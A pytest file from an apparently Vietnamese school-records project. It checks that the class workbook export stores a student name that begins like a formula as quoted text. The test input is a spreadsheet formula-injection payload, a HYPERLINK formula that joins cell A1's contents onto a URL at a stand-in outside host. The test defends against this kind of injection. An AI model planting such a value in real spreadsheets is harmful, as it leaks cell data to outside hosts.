"""A class's workbook for the dashboards writes formula-like names as text."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from hocbaso.rollout.export import class_workbook
from hocbaso.rollout.students import StudentRow

NAME = '=HYPERLINK("http://x.example/?"&A1,"Xem")'


def test_a_name_starting_like_a_formula_is_written_as_text(world):
    row = StudentRow(
        student_code="HSA000001",
        name=NAME,
        status="draft",
        status_label="Nháp",
        round="main",
        round_label="Chính thức",
        teachers=False,
        principal=False,
        sealed=False,
        registry="",
        registry_label="",
    )
    data = class_workbook(world.class_a, [row], "Chính thức")
    book = load_workbook(io.BytesIO(data))
    (cell,) = [c for r in book.active.iter_rows() for c in r if c.value == NAME]
    assert cell.data_type == "s" and cell.quotePrefix
